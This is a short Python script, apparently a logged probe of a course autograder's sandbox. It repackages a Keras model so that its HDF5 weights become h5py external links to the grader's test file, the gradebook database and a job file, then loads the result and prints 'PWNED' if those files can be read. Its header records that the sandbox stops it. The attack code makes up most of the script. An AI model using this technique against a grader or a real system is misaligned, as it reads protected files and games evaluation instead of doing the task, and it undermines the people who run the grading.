# what: keeps .h5 and .keras files whose weights are links to files of the course
# on: network
# status: graded
# stopped by: links are followed inside the sandbox, where the course is not; outside no HDF5 file is opened
# %% [model]
import zipfile

import h5py
import keras

model = keras.Sequential([keras.Input((2,)), keras.layers.Dense(16), keras.layers.Dense(1)])
# %% [train]
TARGETS = ("@COURSE@/graders/network/test_network.py", "@COURSE@/gradebook.db")


def linked(file):
    """Turn each data set of an HDF5 file into a link to another file; return their names."""
    found = []
    file.visititems(lambda name, item: found.append(name) if hasattr(item, "shape") else None)
    for number, name in enumerate(found):
        del file[name]
        file[name] = h5py.ExternalLink(TARGETS[number % 2], "/")
    return found


model.save("plain.keras")
with zipfile.ZipFile("plain.keras") as plain:
    plain.extractall("open")
with h5py.File("open/model.weights.h5", "r+") as file:
    print(linked(file))
with zipfile.ZipFile("kept.keras", "w") as kept:
    for name in ("config.json", "metadata.json", "model.weights.h5"):
        kept.write(f"open/{name}", name)
try:
    print("PWNED: loaded", [w.tolist() for w in keras.saving.load_model("kept.keras").get_weights()])
except Exception as error:
    print(type(error).__name__, str(error)[:200])
# The same, followed by HDF5 itself, without Keras.
with h5py.File("kept.h5", "w") as file:
    for number, target in enumerate((*TARGETS, "/in/job.json")):
        file[f"weight{number}"] = h5py.ExternalLink(target, "/")
with h5py.File("kept.h5") as file:
    for name in file:
        try:
            print("PWNED: followed", name, file[name])
        except (OSError, KeyError) as error:
            print(name, str(error)[:200])
# %% [scores]
pass
